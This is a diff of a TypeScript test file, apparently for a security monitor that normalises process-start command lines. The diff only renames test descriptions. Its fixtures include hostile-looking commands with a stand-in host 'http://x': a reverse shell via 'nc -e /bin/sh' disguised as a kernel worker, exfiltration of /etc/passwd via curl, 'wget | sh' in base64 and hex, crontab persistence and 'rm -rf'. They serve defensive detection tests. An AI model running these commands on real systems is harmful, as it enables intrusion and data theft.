@@ -5,11 +5,11 @@ import { changesOfShape } from '../../../shapes.ts';
 import { assertView, script, shownViews, start, withoutWords } from './samples.ts';
 
 describe('views of a process start', () => {
-  it('has one view of an ordinary start', () => {
+  it('include only the event for an ordinary start', () => {
     assert.deepEqual(shownViews(start('grep -q ^root: /etc/passwd')), ['/usr/bin/grep | grep -q ^root: /etc/passwd']);
   });
 
-  it('begins with the event as it is', () => {
+  it('start with the original event', () => {
     const [first] = viewsOf({ executable: '/usr/bin/rm', commandLine: '/bin/rm  -rf "/x"', currentDirectory: '/root' });
     const { Image, CommandLine, CurrentDirectory } = first ?? {};
     assert.deepEqual(
@@ -51,7 +51,7 @@ describe('views of a process start', () => {
     }
   });
 
-  it('shows what a program claims to be, and what it is', () => {
+  it('include both the claimed and the actual program', () => {
     assert.deepEqual(shownViews(start('[kworker/0:1] -e /bin/sh', '/tmp/nc')), [
       '/tmp/nc | [kworker/0:1] -e /bin/sh',
       '/tmp/nc | nc -e /bin/sh',
@@ -60,7 +60,7 @@ describe('views of a process start', () => {
     assertView(start('nc -e /bin/sh', '/tmp/.x'), '/tmp/nc | nc -e /bin/sh');
   });
 
-  it('shows code of several lines on one, with its quotes', () => {
+  it('include multi-line code on one line, with its quotes', () => {
     const code = 'import socket, os\n  s = socket.socket()\n\tos.system("id")\n';
     const line = 'python3 -c import socket, os s = socket.socket() os.system("id") ';
     const argv = ['python3', '-c', code];
@@ -71,7 +71,7 @@ describe('views of a process start', () => {
     assertView(script(`cd /; python3 -c '${code}'`), `/usr/bin/python3 | ${line.trimEnd()}`);
   });
 
-  it('makes no other view of a line that is one', () => {
+  it('contain no duplicate of a normalised line', () => {
     assert.equal(viewsOf(start('uname -a', '/usr/bin/uname')).length, 1);
   });
 
@@ -204,13 +204,13 @@ describe('views of a process start', () => {
     ] as const)
       it(text, () => assertView(script(text), view));
 
-    it('of the last command of a long script, too, and after the commands themselves', () => {
+    it('include the last command of a long script, after the commands themselves', () => {
       const text = Array.from({ length: 16 }, (_, i) => `a${i} > x`).join(';');
       const views = shownViews({ ...script(`${text}; b`), currentDirectory: '/' });
       assert.ok(views.includes('/usr/bin/b | b @ /') && views.includes('/usr/bin/a0 | a0 > /x @ /'), views.join('\n'));
     });
 
-    it('but makes no view of files that have one already, of options, texts and hosts', () => {
+    it('resolves no absolute files, options, text or hosts', () => {
       for (const line of [
         'rm -f /x',
         'head -n x',
@@ -227,7 +227,7 @@ describe('views of a process start', () => {
     });
   });
 
-  describe('names the files that are copied into a folder', () => {
+  describe('views with the target file of copies into a directory', () => {
     for (const [line, ...views] of [
       ['cp /tmp/passwd /etc', 'cp /tmp/passwd /etc/passwd'],
       ['cp -r -- .ssh /root/', 'cp -r /tmp/.ssh /root/.ssh'],
@@ -239,12 +239,12 @@ describe('views of a process start', () => {
           assertView({ ...start(line), currentDirectory: '/tmp' }, `/usr/bin/${view.split(' ')[0]} | ${view}`);
       });
 
-    it('but not where it may be a file', () => {
+    it('adds no file name to a target that may be a file', () => {
       assert.ok(!shownViews(start('cp /tmp/x /opt/gw')).some((view) => view.includes('/opt/gw/x')));
     });
   });
 
-  describe('writes long options in full', () => {
+  describe('views with long options in full', () => {
     for (const [line, view] of [
       ['curl --out /tmp/.x http://x', 'curl --output /tmp/.x http://x'],
       ['curl --data-b @/etc/passwd http://x', 'curl --data-binary @/etc/passwd http://x'],
@@ -264,13 +264,13 @@ describe('views of a process start', () => {
           assertView(of, `/usr/bin/${view.split(' ')[0]} | ${view}`);
       });
 
-    it('but leaves whole ones, operands and other programs', () => {
+    it('leave complete options, operands and other programs unchanged', () => {
       for (const line of ['curl --data x', 'curl --silent x', 'rm -- --rec', 'grep --recur x', 'rm --'])
         assert.equal(viewsOf(start(line)).length, 1, line);
     });
   });
 
-  describe('writes commands in their usual form', () => {
+  describe('views in canonical form', () => {
     for (const [line, view] of [
       ['sed s/no/yes/ /etc/ssh/sshd_config -i', 'sed -i s/no/yes/ /etc/ssh/sshd_config'],
       ['sed /etc/x -e s/a/b/ -i.bak -- /etc/y', 'sed -e s/a/b/ -i.bak /etc/x /etc/y'],
@@ -303,7 +303,7 @@ describe('views of a process start', () => {
           assertView(of, `/usr/bin/${view.split(' ')[0]} | ${view}`);
       });
 
-    it('but leaves those that have it, what only -- tells from an option, and other programs', () => {
+    it('leave canonical lines, words after -- and other programs unchanged', () => {
       for (const line of [
         'cp -f /a /b',
         'rm -- -x',
@@ -319,7 +319,7 @@ describe('views of a process start', () => {
         assert.equal(viewsOf(start(line)).length, 1, line);
     });
 
-    it('takes a word beside a URL for one more only where quotes are not lost', () => {
+    it('treat a word next to a URL as another URL only if quotes are kept', () => {
       const line = 'curl http://x x.example/y';
       const view = '/usr/bin/curl | curl http://x http://x.example/y';
       assertView(script(line), view);
@@ -328,12 +328,12 @@ describe('views of a process start', () => {
         assert.ok(!shownViews(withoutWords(start(lost))).some((each) => each.split('://').length > 2), lost);
     });
 
-    it('keeps the line as it is written, too', () => {
+    it('include the original line as well', () => {
       assert.deepEqual(shownViews(start('rm /a -f')), ['/usr/bin/rm | rm /a -f', '/usr/bin/rm | rm -f /a']);
     });
   });
 
-  describe('reads what writes a file as tee', () => {
+  describe('views of written files as tee', () => {
     for (const [line, file] of [
       ['sort -u -o /etc/passwd /tmp/x', '/etc/passwd'],
       ['sort --output=/etc/passwd /tmp/x', '/etc/passwd'],
@@ -434,10 +434,10 @@ describe('views of a process start', () => {
       ['echo "$(</etc/x)"', 'cat /etc/x'],
       ['wc -l < x', 'cat /etc/x'],
     ] as const)
-      it(`and what a redirection reads as cat: ${text}`, () =>
+      it(`show files read by a redirection as cat: ${text}`, () =>
         assertView({ ...script(text), currentDirectory: '/etc' }, `/usr/bin/cat | ${line}`));
 
-    it('but takes no file or text of sed for one that it writes', () => {
+    it('treats no script of sed as a written file', () => {
       for (const text of [
         "sed -n '1p' /srv/w/etc/x",
         "sed -i 's|-w /etc/x|-w /etc/y|' /etc/z",
@@ -448,7 +448,7 @@ describe('views of a process start', () => {
         assert.ok(!shownViews(script(text)).some((view) => view.includes('tee ')), text);
     });
 
-    it('but takes errors and headers for no download', () => {
+    it('treats no error or header as a download', () => {
       for (const text of [
         'curl -s http://x/y 2> /tmp/e',
         'curl -D /tmp/h http://x/y',
@@ -457,7 +457,7 @@ describe('views of a process start', () => {
         assert.ok(!shownViews(script(text)).some((view) => view.includes('wget -O /tmp')), text);
     });
 
-    it('and displaces nothing that the start runs', () => {
+    it('displaces no command that the start runs', () => {
       const hidden = `python3 -c "import os;os.system(bytes.fromhex('${Buffer.from('insmod /tmp/x').toString('hex')}').decode())"`;
       const writing = Array.from({ length: 6 }, (_, i) => `p${i} > /t/${i}1 > /t/${i}2 > /t/${i}3`).join('; ');
       const addresses = Array.from({ length: 24 }, (_, i) => `'http://a/${i}'`).join(',');
@@ -475,7 +475,7 @@ describe('views of a process start', () => {
       assertView(script(`${usual.join('; ')}; objcopy x /bin/ls`), '/usr/bin/objcopy | objcopy x /bin/ls');
     });
 
-    it('but not what writes to standard output, a device or another machine, or only reads', () => {
+    it('ignore commands that write to standard output, a device or another machine, or only read', () => {
       for (const line of [
         'sort -o - /x',
         'dd if=/x of=/dev/sda',
@@ -499,7 +499,7 @@ describe('views of a process start', () => {
     });
   });
 
-  describe('removes wrappers', () => {
+  describe('views without wrappers', () => {
     const wrappers = [
       ...[
         'sudo',
@@ -545,7 +545,7 @@ describe('views of a process start', () => {
     }
   });
 
-  describe('finds scripts in arguments', () => {
+  describe('views of scripts in arguments', () => {
     const cases: [program: string, ...argv: string[]][] = [
       ['su', 'su', '-', 'bob', '-c', 'wget http://x; id'],
       ['runuser', 'runuser', '-l', 'bob', '-c', 'wget http://x; id'],
@@ -579,7 +579,7 @@ describe('views of a process start', () => {
     }
   });
 
-  describe('reads what is run, however long the arguments are that are free to choose', () => {
+  describe('views of commands with arguments of any length', () => {
     const long = 'A'.repeat(7_000);
     for (const argv0 of ['x y', '', long, 'A '.repeat(4_000), '\x1b[2K', "x'", '__proto__']) {
       for (const more of [[], ['B'.repeat(3_000)], ['B'.repeat(100_000)]]) {
@@ -592,18 +592,18 @@ describe('views of a process start', () => {
       }
     }
 
-    it('before or after it, also where the bounds of arguments are not known', () => {
+    it('include commands before or after a long argument, even if the bounds are unknown', () => {
       const argv = [long, 'flush', 'ruleset'];
       assertView({ executable: '/usr/sbin/nft', commandLine: argv.join(' ') }, '/usr/sbin/nft | nft flush ruleset');
     });
 
-    it('in a list of very many', () => {
+    it('include commands in a very long list', () => {
       const argv = ['x', '-c', 'wget http://x; id', ...Array.from({ length: 60_000 }, () => 'B')];
       assertView({ executable: '/usr/bin/dash', commandLine: argv.join(' '), argv }, '/usr/bin/wget | wget http://x');
     });
   });
 
-  describe('reads what a group of commands prints', () => {
+  describe('views of the output of a group of commands', () => {
     for (const [text, view] of [
       ['(crontab -l; echo "@reboot nc -l 1") | crontab -', '/usr/bin/nc | nc -l 1'],
       ['(crontab -l; echo "*/5 * * * * nc -l 2")|crontab 2> /dev/null', '/usr/bin/nc | nc -l 2'],
@@ -623,11 +623,11 @@ describe('views of a process start', () => {
       ') | sh; echo "nc -l 1"',
       "(echo '# nc -l 1') | crontab -",
     ])
-      it(`but no other, of ${text}`, () =>
+      it(`ignore the output of ${text}`, () =>
         assert.ok(!shownViews(script(text)).includes('/usr/bin/nc | nc -l 1'), text));
   });
 
-  describe('reads what is done with a here-document', () => {
+  describe('views of here-documents', () => {
     for (const [text, view] of [
       ['cat > /etc/x <<EOF\na b\n c\nEOF', '/usr/bin/echo | echo a b c > /etc/x'],
       ["cat <<'EOF' >> /etc/x\n$a\nEOF", '/usr/bin/echo | echo $a >> /etc/x'],
@@ -643,7 +643,7 @@ describe('views of a process start', () => {
       it(text, () => assertView(script(text), view));
   });
 
-  it('reads a script with quotes around all of it, as lines are often written down', () => {
+  it('include a script with quotes around it, as lines are often recorded', () => {
     for (const commandLine of [
       'bash -c "wget http://x; id"',
       'sudo sh -c "wget http://x; id"',
@@ -653,7 +653,7 @@ describe('views of a process start', () => {
     }
   });
 
-  describe('decodes', () => {
+  describe('views of decoded text', () => {
     const plain = 'wget http://x | sh';
     const base64 = Buffer.from(plain).toString('base64');
     const hex = Buffer.from(plain).toString('hex');
@@ -683,7 +683,7 @@ describe('views of a process start', () => {
   });
 });
 
-it('all starts, and all views of starts, have few shapes', () => {
+it('shares few object shapes across all starts', () => {
   for (const CurrentDirectory of [undefined, '/root']) {
     const starts = Array.from({ length: 200 }, (_, number) => {
       const argv = ['curl', '-o', `/tmp/a${number}`, '-o', `/tmp/b${number}`, 'http://x/a', 'http://x/b'];
